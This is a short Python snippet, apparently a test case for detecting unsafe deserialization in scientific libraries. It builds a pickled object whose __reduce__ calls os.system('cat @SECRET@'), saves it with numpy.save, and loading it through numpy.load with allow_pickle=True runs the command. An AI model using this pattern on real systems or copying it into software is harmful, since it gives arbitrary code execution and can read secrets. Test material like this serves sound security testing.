# numpy.load unpickles object arrays.
# effect: run
# tree: scientific
import os
import tempfile
import numpy
class Trap:
    def __reduce__(self):
        return os.system, ("cat @SECRET@",)
path = tempfile.mktemp(suffix=".npy")
numpy.save(path, numpy.array([Trap()], dtype=object))
numpy.load(path, allow_pickle=True)
